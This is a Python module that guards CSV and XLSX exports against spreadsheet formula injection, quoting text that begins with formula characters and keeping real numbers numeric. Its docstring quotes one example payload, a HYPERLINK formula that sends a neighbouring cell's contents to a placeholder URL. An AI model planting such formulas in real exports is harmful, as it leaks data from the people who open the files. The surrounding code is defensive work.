"""Spreadsheet-safe cells: the one place every CSV and XLSX export writes through.

A spreadsheet program reads a cell whose text begins with ``=``, ``+``, ``-``
or ``@`` (and, on import, one beginning with a tab or carriage return) as a
formula. Text that users typed (an indicator's name, a forum's, an
organisation's) would then run in the analyst's Excel: an indicator named
``=HYPERLINK("http://…?leak="&C5,"öppna")`` sends the neighbouring cell away.
So, as OWASP's CSV-injection guidance describes, such text gets a leading
single quote, and the spreadsheet shows it as text.

Decisions:

* Only text is neutralised. A real number (``int``, ``float``, ``Decimal``)
  is written as a number, negative or not, so sums still work. Text that
  looks like a number ("-5", "+46 8 …") is a label, not a figure: it is
  neutralised like any other text. A figure that should be summed must be
  handed over as a number.
* Besides the first character, the first character after leading whitespace
  counts too (" =1+1", "\\n@SUM(1)"), and so do the full-width forms
  (＝ ＋ － ＠), which some spreadsheet programs also read as formulas.
* CSV comes in two styles (`CsvStyle`): for Swedish spreadsheets by default
  (semicolons, decimal comma, byte-order mark) and for machines on request
  (`?stil=maskin`: commas, decimal point, no byte-order mark).
* Values that are neither text, numbers, dates nor None are written as their
  text (``str()``), neutralised.
* In XLSX every text cell is stored as a string, never as a formula or an
  error value, whatever it holds (openpyxl by itself turns a ``str``
  beginning with "=" into a formula). Control characters that XML cannot hold
  are dropped, so a name typed with one cannot make the whole export fail.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from datetime import date, datetime, time, timedelta
from decimal import Decimal
from typing import Any

from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

FORMULA_STARTS = frozenset("=+-@\t\r＝＋－＠")
_PREFIX = "'"
_KEPT_TYPES = (int, float, Decimal, date, datetime, time, timedelta)  # bool is an int


def is_dangerous(text: str) -> bool:
    """True when a spreadsheet could read the text as a formula."""
    if not text:
        return False
    if text[0] in FORMULA_STARTS:
        return True
    stripped = text.lstrip()
    return bool(stripped) and stripped[0] in FORMULA_STARTS


def neutralise(value: Any) -> Any:
    """A cell value that no spreadsheet reads as a formula; numbers and dates unchanged."""
    if value is None or isinstance(value, _KEPT_TYPES):
        return value
    text = value if isinstance(value, str) else str(value)
    return _PREFIX + text if is_dangerous(text) else text


def neutralise_row(row: Iterable[Any]) -> list[Any]:
    return [neutralise(value) for value in row]


@dataclass(frozen=True)
class CsvStyle:
    """How a CSV file separates fields and writes decimals."""

    delimiter: str
    decimal: str
    byte_order_mark: bool


# What Excel and LibreOffice with Swedish settings open by a double click: fields
# separated by semicolons (the comma is the decimal sign), a decimal comma, and a
# byte-order mark so that å, ä and ö are read as UTF-8.
SPREADSHEET = CsvStyle(delimiter=";", decimal=",", byte_order_mark=True)
# What programs expect (RFC 4180): commas, a decimal point, no byte-order mark.
MACHINE = CsvStyle(delimiter=",", decimal=".", byte_order_mark=False)
CSV_STYLES = {"kalkyl": SPREADSHEET, "maskin": MACHINE}


def csv_style(name: str | None) -> CsvStyle:
    """The style a `?stil=` query parameter names; the spreadsheet style by default."""
    return CSV_STYLES.get(name or "", SPREADSHEET)


def _csv_cell(value: Any, style: CsvStyle) -> Any:
    """A cell as written: a real number with the style's decimal sign, never neutralised."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return int(value)
    if isinstance(value, Decimal):  # "57640.9900000000" → "57640,99"
        return format(value.normalize(), "f").replace(".", style.decimal)
    if isinstance(value, float):
        return str(value).replace(".", style.decimal)
    return value


def csv_bytes(rows: Iterable[Sequence[Any]], style: CsvStyle = SPREADSHEET) -> bytes:
    """CSV (CRLF) in the given style, every text cell neutralised.

    Text is neutralised before numbers are written, so a negative figure
    ("-12,5") stays a number while text beginning with "-" is not a formula.
    """
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=style.delimiter, lineterminator="\r\n")
    for row in rows:
        writer.writerow([_csv_cell(value, style) for value in neutralise_row(row)])
    return buffer.getvalue().encode("utf-8-sig" if style.byte_order_mark else "utf-8")


def append_xlsx_row(sheet: Any, row: Iterable[Any]) -> None:
    """Append a row to an openpyxl sheet: text neutralised and stored as strings."""
    values = [
        ILLEGAL_CHARACTERS_RE.sub("", value) if isinstance(value, str) else value
        for value in neutralise_row(row)
    ]
    sheet.append(values)
    if not values:
        return
    for cell in sheet[sheet.max_row]:
        if isinstance(cell.value, str):
            cell.data_type = "s"
